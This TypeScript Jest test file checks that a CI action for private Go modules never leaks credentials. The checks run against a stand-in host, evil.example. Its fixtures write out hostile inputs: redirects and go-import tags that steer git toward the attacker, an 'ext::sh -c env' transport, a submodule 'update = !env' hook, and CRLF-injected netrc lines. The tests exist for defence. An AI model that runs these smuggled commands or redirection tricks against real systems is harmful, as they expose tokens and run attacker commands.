import { mkdir } from 'node:fs/promises'
import { join } from 'node:path'
import { afterAll, beforeAll, beforeEach, describe, expect, it } from '@jest/globals'
import { createRepository } from '../support/git-repository.ts'
import type { SeenRequest, Site } from '../support/internet.ts'
import { buildModule, type SyntheticModule } from '../support/module-builder.ts'
import { basic, moduleSite } from '../support/module-site.ts'
import { makePrivateRig, type PrivateRig } from '../support/private-rig.ts'
import { makePrivateWorld, type PrivateWorld, TOKENS } from '../support/private-world.ts'
import { run } from '../support/processes.ts'
import { temporaryDirectories } from '../support/temp.ts'

const directory = temporaryDirectories(afterAll)
const EVIL = 'evil.example'
const LIB = 'github.com/acme/lib'
const PASSWORD = 'Bn5/tH+2wD=9cX'

let world: PrivateWorld
let rig: PrivateRig

/** Asks for a password, as one that collects them would. */
const collect: Site = ({ response }) =>
  void response.writeHead(401, { 'www-authenticate': 'Basic realm="GitHub"' }).end('who are you?\n')

function goImport(content: string): Site {
  return ({ url, response }) =>
    void response
      .setHeader('content-type', 'text/html')
      .end(`<meta name="go-import" content="${url.host}${url.pathname} git ${content}">\n`)
}

const corp = buildModule({ path: 'corp.example.com/lib', version: 'v1.0.0' })

beforeAll(async () => {
  const base = await directory('hostile')
  world = await makePrivateWorld(base, {
    sites: {
      [EVIL]: collect,
      'www.evil.example': collect,
      'corp.example.com': goImport(`https://${EVIL}/lib.git`),
      'proxy.example.com': moduleSite({ modules: [corp], accepts: basic('me', PASSWORD) }),
    },
  })
  rig = await makePrivateRig(base, world)
})
beforeEach(() => {
  for (const host of ['github.com', 'gitlab.example.com', 'corp.example.com', 'proxy.example.com'])
    world.internet.replace(host, undefined)
})
afterAll(async () => {
  await rig.close()
  await world[Symbol.asyncDispose]()
})

const CREDENTIALS = [
  `machine github.com login x-access-token password ${TOKENS.github}`,
  `machine gitlab.example.com login oauth2 password ${TOKENS.gitlab}`,
  `machine corp.example.com login me password ${PASSWORD}`,
  `machine proxy.example.com login me password ${PASSWORD}`,
].join('\n')

interface Attack {
  readonly name: string
  readonly modules: () => readonly SyntheticModule[]
  readonly inputs?: Readonly<Record<string, string>>
  readonly goModLines?: readonly string[]
  readonly sites?: Readonly<Record<string, Site>>
  /** Whether the attacker is asked at all: else the attack is stopped before. */
  readonly reaches: boolean
  /** go.mod may name what no module can be called: nothing is asked for it, and go complains when it builds. */
  readonly succeeds?: boolean
}

const redirectToEvil: Site = ({ url, response }) =>
  void response.writeHead(301, { location: `https://${EVIL}${url.pathname}${url.search}` }).end()

const ATTACKS: readonly Attack[] = [
  {
    name: 'the forge redirects git elsewhere',
    modules: () => [world.module(LIB)],
    sites: { 'github.com': redirectToEvil },
    reaches: true,
  },
  {
    name: 'only to those who have said who they are',
    modules: () => [world.module(LIB)],
    sites: {
      'github.com': visit => {
        const { authorization } = visit.request.headers
        const isKnown = Buffer.from(authorization?.slice(6) ?? '', 'base64').toString().length > 1
        return isKnown ? redirectToEvil(visit) : collect(visit)
      },
    },
    reaches: true,
  },
  {
    name: 'discovery redirects elsewhere',
    modules: () => [world.module('gitlab.example.com/group/sub/deep/lib')],
    sites: { 'gitlab.example.com': redirectToEvil },
    reaches: true,
  },
  {
    name: 'discovery names a repository elsewhere',
    modules: () => [corp],
    inputs: { goprivate: 'corp.example.com' },
    reaches: true,
  },
  {
    name: 'discovery names the forge as the user of a host elsewhere',
    modules: () => [corp],
    inputs: { goprivate: 'corp.example.com,github.com' },
    sites: { 'corp.example.com': goImport(`https://github.com@${EVIL}/acme/lib.git`) },
    reaches: true,
  },
  {
    name: 'discovery hides a second line in the address',
    modules: () => [corp],
    inputs: { goprivate: 'corp.example.com,github.com' },
    sites: { 'corp.example.com': goImport(`https://${EVIL}/x%0ahost=github.com/lib.git`) },
    reaches: false,
  },
  {
    name: 'discovery names another transport',
    modules: () => [corp],
    inputs: { goprivate: 'corp.example.com' },
    sites: { 'corp.example.com': goImport(`ext::sh -c env>/tmp/x %S`) },
    reaches: false,
  },
  {
    name: 'go.mod replaces it by a module elsewhere',
    modules: () => [world.module(LIB)],
    goModLines: [`replace ${LIB} => ${EVIL}/acme/lib v1.0.0`],
    inputs: { goprivate: 'github.com,evil.example' },
    reaches: true,
  },
  {
    name: 'go.mod names a host with a user',
    modules: () => [{ ...world.module(LIB), path: `github.com@${EVIL}/acme/lib` }],
    inputs: { goprivate: '*' },
    reaches: false,
    succeeds: true,
  },
  {
    name: 'go.mod climbs out of the path that the credential is for',
    modules: () => [{ ...world.module(LIB), path: `github.com/acme/../../${EVIL}/lib` }],
    reaches: false,
    succeeds: true,
  },
  {
    name: 'a host that only begins like the forge',
    modules: () => [{ ...world.module(LIB), path: `github.com.${EVIL}/acme/lib` }],
    inputs: { goprivate: '*' },
    reaches: false,
  },
  {
    name: 'the company’s proxy redirects elsewhere',
    modules: () => [corp],
    inputs: { goproxy: 'https://proxy.example.com', gonosumdb: 'corp.example.com' },
    sites: { 'proxy.example.com': redirectToEvil },
    reaches: true,
  },
  {
    name: 'a submodule elsewhere',
    modules: () => [submodule],
    inputs: { goprivate: 'github.com' },
    reaches: false,
    succeeds: true,
  },
]

const submodule = buildModule({
  path: 'github.com/acme/outer',
  version: 'v1.0.0',
  files: { '.gitmodules': `[submodule "x"]\n\tpath = x\n\turl = https://${EVIL}/x.git\n\tupdate = !env\n` },
})

describe('nobody but its own host gets a credential', () => {
  beforeAll(async () => {
    await mkdir(join(world.root, 'acme'), { recursive: true })
    await createRepository(world.root, 'acme/outer', [{ tag: 'v1.0.0', files: submodule.files }])
  })

  it.each(ATTACKS)('$name', async ({ modules, inputs, goModLines, sites = {}, reaches, succeeds = false }) => {
    for (const [host, site] of Object.entries(sites)) world.internet.replace(host, site)
    const all = {
      goprivate: 'github.com,gitlab.example.com',
      credentials: CREDENTIALS,
      retries: '0',
      timeout: '30s',
      ...inputs,
    }
    // go.mod alone, for what go.sum cannot name.
    const project = goModLines === undefined ? {} : { goModLines, goSum: null }
    // A later step that has what was kept is in the same danger.
    for (const persist of ['false', 'true']) {
      const job = await rig.job({
        modules: modules(),
        project,
        inputs: { ...all, 'persist-credentials': persist, download: persist === 'true' ? 'warn' : 'true' },
        workload: async env =>
          run('go', ['mod', 'download'], { cwd: rig.workspace, env: { ...env, GOFLAGS: '-mod=mod', GONOSUMDB: '*' } }),
      })
      expect([persist, job.main.conclusion]).toEqual([persist, succeeds || persist === 'true' ? 'success' : 'failure'])
      expect(world.internet.requests.filter(isEvil).map(said)).toEqual(
        world.internet.requests.filter(isEvil).map(nothing),
      )
      if (persist === 'false') expect(world.internet.requests.some(isEvil)).toBe(reaches)
      expectOwnHosts(world.internet.requests)
      expect(await job.leaks({ github: TOKENS.github, gitlab: TOKENS.gitlab, password: PASSWORD })).toEqual([])
    }
  })

  it.each([
    [
      'a line break in the password',
      `machine github.com login me password ${TOKENS.github}\r\nmachine ${EVIL} login me password`,
    ],
    ['a user before the host', `machine github.com@${EVIL} login me password ${TOKENS.github}`],
    ['a scheme', `machine https://github.com login me password ${TOKENS.github}`],
    ['a path that climbs', `machine github.com/acme/../x login me password ${TOKENS.github}`],
    ['a host encoded', `machine github.com%2f@${EVIL} login me password ${TOKENS.github}`],
    ['no host', `default login me password ${TOKENS.github}`],
    ['a quote that git would read', `machine github.com/"] login me password ${TOKENS.github}`],
  ])('credentials with %s are refused, before anything is done', async (_what, credentials) => {
    const job = await rig.job({ modules: [world.module(LIB)], inputs: { goprivate: 'github.com', credentials } })
    expect(job.main.conclusion).toBe('failure')
    expect(job.annotations[0]?.message).toMatch(/^credentials: expected machine HOST/)
    expect(world.internet.requests).toEqual([])
    expect(await job.leaks({ github: TOKENS.github })).toEqual([])
  })
})

function isEvil({ host }: SeenRequest): boolean {
  return host === EVIL || host.endsWith(`.${EVIL}`)
}

/** What the attacker was told: nothing, or a name of its own choice without a password. */
function said({ path, authorization }: SeenRequest): string {
  const text = Buffer.from(authorization?.replace('Basic ', '') ?? '', 'base64').toString()
  return `${path} ${text.endsWith(':') ? '' : text}`
}

function nothing({ path }: SeenRequest): string {
  return `${path} `
}

/** Every token went to its own host. */
function expectOwnHosts(requests: readonly SeenRequest[]): void {
  const owners: Readonly<Record<string, string>> = {
    [TOKENS.github]: 'github.com',
    [TOKENS.gitlab]: 'gitlab.example.com',
  }
  for (const { host, authorization } of requests) {
    const password =
      Buffer.from(authorization?.slice(6) ?? '', 'base64')
        .toString()
        .split(':')[1] ?? ''
    const owner = owners[password]
    if (owner !== undefined) expect([password.slice(0, 5), host]).toEqual([password.slice(0, 5), owner])
  }
}
